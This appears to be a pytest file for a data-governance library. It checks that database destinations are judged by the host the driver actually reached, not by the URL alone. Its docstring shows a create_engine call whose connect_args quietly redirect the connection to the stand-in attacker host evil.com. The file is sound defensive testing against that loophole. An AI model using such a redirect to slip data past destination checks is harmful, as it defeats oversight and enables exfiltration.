"""Where a governed engine's connection actually goes, not only what its URL says:
``create_engine("postgresql+psycopg://etl@localhost/db", connect_args={"host": "evil.com"})``
connects to evil.com, and the database was named, and judged internal, by the URL alone. The
host the driver reports (psycopg's ``connection.info.host``/``hostaddr``) is now added to the
URL the decision reads."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
import sqlalchemy as sa

from lacuna.config import DestinationConfig
from lacuna.destinations import classify_destination
from lacuna.model import Scope
from lacuna.sql.hook import with_connected_hosts

CONFIG = DestinationConfig(internal_hosts=("*.corp.example",))
URL = "postgresql+psycopg://etl@localhost/db"


def _connected_to(host: str, hostaddr: str = "") -> SimpleNamespace:
    """A stand-in for a psycopg connection (named so: no server but the tests' loopback
    cluster runs here, so a connection to another host cannot be made for real)."""
    return SimpleNamespace(info=SimpleNamespace(host=host, hostaddr=hostaddr))


@pytest.fixture(autouse=True)
def _no_libpq_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("PGHOST", "PGHOSTADDR", "PGSERVICE"):
        monkeypatch.delenv(name, raising=False)


@pytest.mark.parametrize(("host", "hostaddr", "scope"), [
    ("evil.com", "", Scope.EXTERNAL),  # connect_args={"host": "evil.com"}
    ("localhost", "203.0.113.9", Scope.EXTERNAL),  # hostaddr wins in libpq
    ("db1.corp.example", "", Scope.INTERNAL),  # listed in destinations.internal_hosts
])
def test_the_host_a_connection_went_to_decides(host, hostaddr, scope):
    url = with_connected_hosts(URL, _connected_to(host, hostaddr))
    d = classify_destination(url, CONFIG)
    assert d.scope is scope, d.reasoning
    if scope is Scope.EXTERNAL:
        assert (hostaddr or host) in d.reasoning


@pytest.mark.parametrize("connection", [
    _connected_to("localhost", "127.0.0.1"), _connected_to("/var/run/postgresql"),
    _connected_to("::1"), SimpleNamespace(), object(),
])
def test_this_machine_or_no_answer_leaves_the_url_as_it_was(connection):
    assert with_connected_hosts(URL, connection) == URL


def test_the_urls_own_host_is_not_added_again():
    url = "postgresql+psycopg://etl@db1.corp.example:5432/db"
    assert with_connected_hosts(url, _connected_to("DB1.corp.example")) == url


def test_a_host_named_only_in_the_database_name_is_still_added():
    # a substring of the URL is no host of it: the database may be called "evil.com"
    url = with_connected_hosts("postgresql://etl@db1.corp.example/evil.com",
                               _connected_to("evil.com"))
    assert classify_destination(url, CONFIG).scope is Scope.EXTERNAL


def test_a_real_connection_to_the_tests_cluster_reads_as_its_url(pg):
    engine = sa.create_engine(pg)
    try:
        with engine.connect() as conn:
            dbapi = conn.connection.dbapi_connection
            assert with_connected_hosts(pg, dbapi) == pg  # loopback or its socket
            assert getattr(dbapi.info, "host", None)  # the driver does report it
    finally:
        engine.dispose()
